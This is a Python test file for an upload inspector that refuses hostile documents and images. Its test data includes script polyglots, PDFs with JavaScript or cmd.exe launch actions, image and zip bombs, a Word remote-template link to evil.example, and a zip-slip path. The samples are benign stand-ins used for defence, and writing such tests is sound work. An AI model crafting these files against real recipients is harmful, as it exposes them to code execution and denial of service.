"""Files built to attack whoever opens them are refused in plain words; real files pass and say which checks."""

from __future__ import annotations

import io
import struct
import zipfile
import zlib

import pikepdf
import pytest
from PIL import Image

from tests.evidence import jpeg, office, pdf, png
from tracker.evidence.filetypes import FileTypeRefused, inspect
from tracker.evidence.filetypes import office as office_checks


def refused(name: str, content: bytes) -> str:
    with pytest.raises(FileTypeRefused) as refusal:
        inspect(name, io.BytesIO(content))
    return refusal.value.message


def pdf_with(change) -> bytes:
    document = pikepdf.new()
    document.add_blank_page(page_size=(200, 200))
    change(document)
    buffer = io.BytesIO()
    document.save(buffer, static_id=True)
    return buffer.getvalue()


def office_with(kind: str = "docx", **members: bytes) -> bytes:
    source = zipfile.ZipFile(io.BytesIO(office(kind)))
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as package:
        for info in source.infolist():
            if info.filename not in members:
                package.writestr(info, source.read(info))
        for name, data in members.items():
            package.writestr(name, data)
    return buffer.getvalue()


def rels(target_mode: str, rel_type: str) -> bytes:
    return (
        '<?xml version="1.0" encoding="UTF-8"?><Relationships '
        'xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
        f'<Relationship Id="rId9" Type="{rel_type}" Target="https://evil.example/t.dotm" TargetMode="{target_mode}"/>'
        "</Relationships>"
    ).encode()


REL = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/"


def test_real_files_pass_and_say_which_checks_they_passed():
    verdict = inspect("report.pdf", io.BytesIO(pdf()))
    assert verdict.content_type == "application/pdf"
    assert "no JavaScript" in verdict.checks and "no embedded files" in verdict.checks
    assert any("decoded as a PNG image (1 x 1 pixels)" in c for c in inspect("a.png", io.BytesIO(png())).checks)
    assert any("decoded as a JPEG image" in c for c in inspect("a.jpg", io.BytesIO(jpeg())).checks)
    assert "no macros or embedded programs" in inspect("a.docx", io.BytesIO(office())).checks
    assert "no HTML, SVG, XML or script" in inspect("a.csv", io.BytesIO(b"a,b\n1 < 2,x\n")).checks


@pytest.mark.parametrize(
    ("name", "content", "reason"),
    [
        ("polyglot.pdf", b"%PDF-1.7\n<html><body><script>alert(1)</script></body></html>", "is not a PDF"),
        ("polyglot.png", b"\x89PNG\r\n\x1a\n<html><script>alert(1)</script></html>", "is not a PNG image"),
        ("polyglot.jpg", b"\xff\xd8\xff\xe0<html><script>alert(1)</script>", "is not a JPEG image"),
        ("truncated.jpg", jpeg()[:-40], "is not a JPEG image"),
        ("after.png", png() + b"<html><script>alert(1)</script></html>", "other data after the picture"),
        ("comment.pdf", pdf().replace(b"\n", b"\n%<html><script>alert(1)</script>\n", 1), "web page or script"),
        ("script.csv", b"name,note\nA,fine\nB,<script>alert(1)</script>\n", "looks like a web page"),
        ("handler.txt", b"notes\n<p onclick=alert(1)>x</p>", "looks like a web page"),
    ],
)
def test_polyglots_and_disguises_are_refused(name, content, reason):
    assert reason in refused(name, content)


@pytest.mark.parametrize(
    ("change", "what"),
    [
        (
            lambda d: setattr(d.Root, "OpenAction", pikepdf.Dictionary(S=pikepdf.Name.JavaScript, JS="app.alert(1)")),
            "JavaScript",
        ),
        (lambda d: d.attachments.__setitem__("x.exe", pikepdf.AttachedFileSpec(d, b"MZ")), "embedded files"),
        (
            lambda d: setattr(
                d.Root, "OpenAction", pikepdf.Dictionary(S=pikepdf.Name.Launch, F=pikepdf.String("cmd.exe"))
            ),
            "starts a program",
        ),
    ],
)
def test_pdfs_with_active_content_are_refused(change, what):
    message = refused("report.pdf", pdf_with(change))
    assert what in message and "could run when it is opened" in message


def test_a_javascript_action_hidden_in_an_annotation_is_found():
    def annotate(document):
        action = pikepdf.Dictionary(S=pikepdf.Name.JavaScript, JS="app.alert(1)")
        link = pikepdf.Dictionary(Type=pikepdf.Name.Annot, Subtype=pikepdf.Name.Link, Rect=[0, 0, 10, 10], A=action)
        document.pages[0].Annots = document.make_indirect(pikepdf.Array([document.make_indirect(link)]))

    assert "JavaScript" in refused("report.pdf", pdf_with(annotate))


def test_an_image_bomb_is_refused_without_decoding_it():
    def chunk(kind: bytes, data: bytes) -> bytes:
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))

    header = struct.pack(">IIBBBBB", 30_000, 30_000, 8, 2, 0, 0, 0)  # 900 million pixels, a few bytes
    bomb = (
        b"\x89PNG\r\n\x1a\n"
        + chunk(b"IHDR", header)
        + chunk(b"IDAT", zlib.compress(b"\x00" * 64))
        + chunk(b"IEND", b"")
    )
    assert "too large to check" in refused("bomb.png", bomb)


def test_a_member_inflating_far_beyond_its_size_is_refused_from_the_directory():
    bomb = office_with(**{"word/media/zeros.bin": b"\x00" * (8 * 1024 * 1024)})
    assert "zip bomb" in refused("bomb.docx", bomb)


def test_many_members_each_under_the_ratio_floor_are_a_bomb_as_a_whole():
    # 20 members of exactly 1 MiB of zeros: each is at the per-member floor, so only the package's ratio
    # (about 1,000 to 1) finds the bomb; the real run used 190 of them (200 KB unpacking to 199 MB).
    zeros = b"\x00" * office_checks.RATIO_FLOOR
    bomb = office_with(**{f"word/media/zeros{n}.bin": zeros for n in range(20)})
    assert "zip bomb" in refused("bomb.docx", bomb)


def test_a_package_too_large_once_unpacked_is_refused_before_inflating(monkeypatch):
    monkeypatch.setattr(office_checks, "MAX_UNCOMPRESSED", 10_000)
    text = bytes(range(256)) * 64  # 16 KiB that hardly compresses: the total, not the ratio, refuses it
    assert "more than 200 MB once unpacked" in refused("big.docx", office_with(**{"word/media/a.bin": text}))


def test_a_package_with_too_many_parts_is_refused(monkeypatch):
    monkeypatch.setattr(office_checks, "MAX_MEMBERS", 4)
    many = office_with(**{f"word/part{n}.xml": b"<a/>" for n in range(5)})
    assert "too many parts" in refused("many.docx", many)


def test_a_remote_template_is_refused_but_a_hyperlink_is_not():
    template = office_with(**{"word/_rels/settings.xml.rels": rels("External", REL + "attachedTemplate")})
    assert "links to content outside itself" in refused("invite.docx", template)
    link = office_with(**{"word/_rels/document.xml.rels": rels("External", REL + "hyperlink")})
    assert inspect("links.docx", io.BytesIO(link)).content_type.endswith("wordprocessingml.document")


def test_relationships_with_a_dtd_are_not_parsed():
    entity = b'<?xml version="1.0"?><!DOCTYPE r [<!ENTITY a "aaaa">]><Relationships>&a;</Relationships>'
    assert "not well-formed" in refused("dtd.docx", office_with(**{"_rels/.rels": entity}))


def test_activex_and_embedded_programs_are_refused():
    assert "embedded object or control" in refused("x.docx", office_with(**{"word/activeX/activeX1.bin": b"x"}))
    assert "embedded object or control" in refused(
        "x.xlsx", office_with("xlsx", **{"xl/embeddings/oleObject1.bin": b"x"})
    )


def test_a_path_climbing_out_of_the_package_is_refused():
    assert "is not a Word document" in refused("slip.docx", office_with(**{"../../evil.sh": b"echo"}))


def test_pillow_limit_is_the_one_used():
    assert office_checks.MAX_RATIO == 100 and Image.MAX_IMAGE_PIXELS
